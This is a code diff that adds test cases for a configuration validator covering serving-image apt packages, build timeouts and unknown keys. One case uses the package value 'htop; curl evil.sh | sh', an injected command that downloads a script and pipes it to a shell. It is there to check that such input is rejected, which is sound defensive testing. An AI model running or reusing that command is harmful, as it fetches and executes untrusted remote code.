@@ -549,6 +549,42 @@ MORE_CASES = [
         "models[0].drainSeconds",
         "less than or equal to 3600",
     ),
+    # servingImage (components/config/serving_image.py)
+    BadConfig(
+        "extra-apt-package-not-a-name",
+        "dev",
+        {"servingImage": {"extraAptPackages": ["htop; curl evil.sh | sh"]}},
+        "servingImage.extraAptPackages",
+        "write each as `name` or `name=version`",
+    ),
+    BadConfig(
+        "extra-apt-package-twice",
+        "multinode",
+        {"servingImage": {"extraAptPackages": ["htop", "htop=3.3.0-4build1"]}},
+        "servingImage.extraAptPackages",
+        "keep one entry per package",
+    ),
+    BadConfig(
+        "image-build-timeout-too-short",
+        "multinode",
+        {"servingImage": {"buildTimeoutMinutes": 5}},
+        "servingImage.buildTimeoutMinutes",
+        "greater than or equal to 20",
+    ),
+    BadConfig(
+        "image-build-timeout-too-long",
+        "multinode",
+        {"servingImage": {"buildTimeoutMinutes": 600}},
+        "servingImage.buildTimeoutMinutes",
+        "less than or equal to 480",
+    ),
+    BadConfig(
+        "serving-image-unknown-key",
+        "dev",
+        {"servingImage": {"aptPackages": ["htop"]}},
+        "servingImage.aptPackages",
+        "check the spelling against the configuration reference",
+    ),
 ]
 
 # Raises in components/config/ that no stack config can reach: defensive, behind a validation that fails first.
